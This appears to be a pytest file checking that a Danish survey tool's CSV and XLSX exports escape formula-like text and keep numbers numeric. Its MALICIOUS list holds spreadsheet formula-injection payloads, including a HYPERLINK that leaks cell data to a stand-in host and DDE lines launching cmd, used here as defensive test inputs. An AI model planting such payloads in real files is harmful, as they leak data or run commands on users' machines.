"""Spreadsheet downloads: Danish CSV, XLSX with numbers as numbers, and no formula injection."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from naersund.survey.export import Table, escape_text, write_csv, write_xlsx

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klik her")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", MALICIOUS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert escape_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Vi indfører opfølgende hjemmebesøg.", "68 pct.", "", "'a"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert escape_text(text) == text


def _table() -> Table:
    return Table(
        title="Tilbagemeldinger: KKR/Hovedstaden [2014]",
        columns=["Kommune", "Kommunekode", "Andel", "Ændring", "Tilbagemelding"],
        rows=[
            ["Albertslund", 165, 68.5, -3, MALICIOUS[0]],
            ["Ærø", 492, 100, 0, "Vi arbejder videre med æøå."],
            ["=Ballerup", 151, None, None, "-"],
        ],
        notes=["Statusrunde 2014", "=kilde"],
    )


def test_csv_is_for_danish_excel_and_escapes_formulas() -> None:
    data = write_csv(_table())
    assert data.startswith(b"\xef\xbb\xbf")  # BOM
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Statusrunde 2014"]
    assert rows[1] == ["'=kilde"]
    assert rows[2] == ["Kommune", "Kommunekode", "Andel", "Ændring", "Tilbagemelding"]
    assert rows[3] == ["Albertslund", "165", "68,5", "-3", "'" + MALICIOUS[0]]
    assert rows[4] == ["Ærø", "492", "100", "0", "Vi arbejder videre med æøå."]
    assert rows[5] == ["'=Ballerup", "151", "", "", "'-"]
    assert b"\r\n" in data


def test_xlsx_keeps_numbers_as_numbers_and_formulas_as_text() -> None:
    wb = load_workbook(io.BytesIO(write_xlsx([_table(), _table()])))
    # sheet names lose the characters Excel forbids and stay unique within 31 characters
    assert wb.sheetnames == ["Tilbagemeldinger- KKR-Hovedstad", "Tilbagemeldinger- KKR-Hoved (2)"]
    ws = wb.worksheets[0]
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0][0] == "Statusrunde 2014"
    assert values[1][0] == "'=kilde"
    assert values[3] == ["Albertslund", 165, 68.5, -3, "'" + MALICIOUS[0]]
    assert values[5][:3] == ["'=Ballerup", 151, None]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula at all
    assert ws.cell(row=3, column=1).font.bold
